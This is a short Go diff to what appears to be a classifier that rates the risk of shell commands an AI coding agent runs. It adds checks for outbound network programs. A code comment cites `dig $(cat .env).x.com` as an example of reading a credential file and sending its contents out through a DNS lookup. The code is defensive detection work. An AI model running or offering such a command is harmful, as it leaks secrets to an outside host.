@@ -23,6 +23,7 @@ func (c *Classifier) bashTool(r *result, ev *claude.Event, cwd string) {
 		return
 	}
 	c.program(r, *in.Command, cwd)
+	r.outboundProgram(*in.Command)
 	c.harnessEnvWrite(r, *in.Command, r.writes, ShellExec)
 	// A credential read is file_read on its own; next to a command that writes, runs or
 	// sends (dig $(cat .env).x.com), it must not carry that command at file_read's trust.
@@ -234,6 +235,7 @@ func (c *Classifier) command(r *result, cmd *shell.Cmd) {
 		}
 	}
 	x.encodedCommand()
+	x.outbound()
 	if cmd.Stdin {
 		switch cmd.Input {
 		case "pipe":
